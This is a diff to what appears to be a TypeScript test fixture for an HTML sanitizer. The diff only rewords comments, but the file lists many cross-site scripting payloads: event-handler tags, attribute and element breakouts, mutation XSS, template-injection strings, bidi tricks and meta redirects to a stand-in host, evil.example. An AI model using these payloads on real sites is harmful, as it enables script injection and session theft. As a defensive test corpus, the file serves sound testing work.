@@ -1,6 +1,7 @@
 /**
- * Texts that somebody types who wants a page to run them (T57, T90). Each has a mark of its own: an element `<xss-12>` or an attribute
- * `data-xss`, which no page of ours has, and where it can run, it sets `__xss`. `payload-marks.ts` looks for all three.
+ * Texts typed by an attacker who wants to run code in a page (T57, T90). Each has its own mark, an element `<xss-12>`
+ * or an attribute `data-xss`, which no page of ours has, and sets `__xss` where it runs. `payload-marks.ts` looks for
+ * all three.
  */
 const run = '__xss=1'
 const far = 'https://evil.example'
@@ -28,7 +29,7 @@ const scripts = [
   '<base data-xss href="FAR/">',
 ]
 
-/** On elements that fire them by themselves, or as soon as somebody moves. */
+/** On elements that fire their handlers automatically or at the first pointer movement. */
 const handlers = [
   ['img src=x', 'onerror onload onloadstart onpointerover'],
   ['svg', 'onload onpointerenter onclick'],
@@ -87,7 +88,7 @@ const links = [
   '<javascript:RUN>',
 ]
 
-/** Where only https becomes a link: an address that would leave its attribute, or is not what it seems. */
+/** For places where only https may become a link: addresses that break out of their attribute or aren't what they seem. */
 const addresses = [
   'FAR/"onmouseover="RUN"data-xss="',
   "FAR/'onmouseover='RUN'data-xss='",
@@ -126,7 +127,7 @@ const drawings = [
   '<![CDATA[<img src=x onerror=RUN data-xss>]]>',
 ]
 
-/** Harmless when it is cleaned, and another tree when it is read once more. */
+/** Mutation XSS: harmless after sanitizing, but parsed to a different tree the second time. */
 const mutants = [
   '<noscript><p title="</noscript><img src=x onerror=RUN data-xss>">',
   '<math><mtext><table><mglyph><style><img title="--></style><img src=x onerror=RUN data-xss>">',
@@ -148,12 +149,12 @@ const mutants = [
   '<details><summary><svg><desc><img data-xss src=x onerror=RUN></desc>',
 ]
 
-/** Out of the element that holds it. */
+/** Break out of the element that contains them. */
 const closers = ['title', 'textarea', 'style', 'script', 'noscript', 'template', 'xmp', 'iframe', 'option', 'select']
   .concat(['button', 'p', 'body', 'html', 'svg', 'dialog'])
   .map((name) => `</${name}><img data-xss src=x onerror=RUN>`)
 
-/** Out of the attribute that holds it. */
+/** Break out of the attribute that contains them. */
 const breakers = [
   '" autofocus onfocus=RUN data-xss x="',
   "' autofocus onfocus=RUN data-xss x='",
@@ -175,7 +176,7 @@ const breakers = [
   '\u2028RUN\u2029<MARK>',
 ]
 
-/** What a machine for templates, a table or a log would take for its own. */
+/** Syntax of template engines, spreadsheets, and log processors. */
 const languages = [
   '{{constructor.constructor("RUN")()}}',
   '{{7*7}}<MARK>',
@@ -221,7 +222,7 @@ const entities = [
   '&#0;<img data-xss src=x onerror=RUN>',
 ]
 
-/** Turned round, hidden, or piled up. */
+/** Reversed, invisible, or stacked characters. */
 const letters = [
   '\u202e<MARK>gpj.exe',
   '\u2066\u202e>ssx< \u2069<MARK>',
@@ -236,7 +237,7 @@ const letters = [
   'İ<img data-xss src=x onerror=RUN>ſcript',
 ]
 
-/** Without a script at all: it reads along, leads away, or takes a name that a script relies on. */
+/** Without a script: reads data, redirects, or takes a name that a script relies on (DOM clobbering). */
 const quiet = [
   '<meta http-equiv=refresh content="0;url=FAR/" data-xss>',
   '<meta name=referrer content=unsafe-url data-xss>',
@@ -260,7 +261,7 @@ const quiet = [
   '<x-frame data-xss is=x-frame>',
 ]
 
-/** All of them, each with a number of its own in its mark. */
+/** All payloads, each with its own number in its mark. */
 export const payloads = [
   ...[...scripts, ...handlers, ...links, ...addresses, ...drawings, ...mutants, ...closers, ...breakers],
   ...[...languages, ...entities, ...letters, ...quiet],
@@ -274,11 +275,11 @@ export const payloads = [
     .replaceAll('§', '$'),
 )
 
-/** Closes whatever one of them has left open, so that the next counts by itself. */
+/** Closes everything that a payload may have left open, so that the next one counts on its own. */
 const ending =
   '"\'`>--></textarea></title></style></script></noscript></xmp></noembed></iframe></template></listing></select></svg></math></table></form> '
 
-/** All in one text; what swallows the rest comes last. */
+/** All payloads in one text; those that swallow the rest come last. */
 export const allPayloads = payloads
   .toSorted((one, other) => Number(one.includes('<plaintext')) - Number(other.includes('<plaintext')))
   .join(ending)
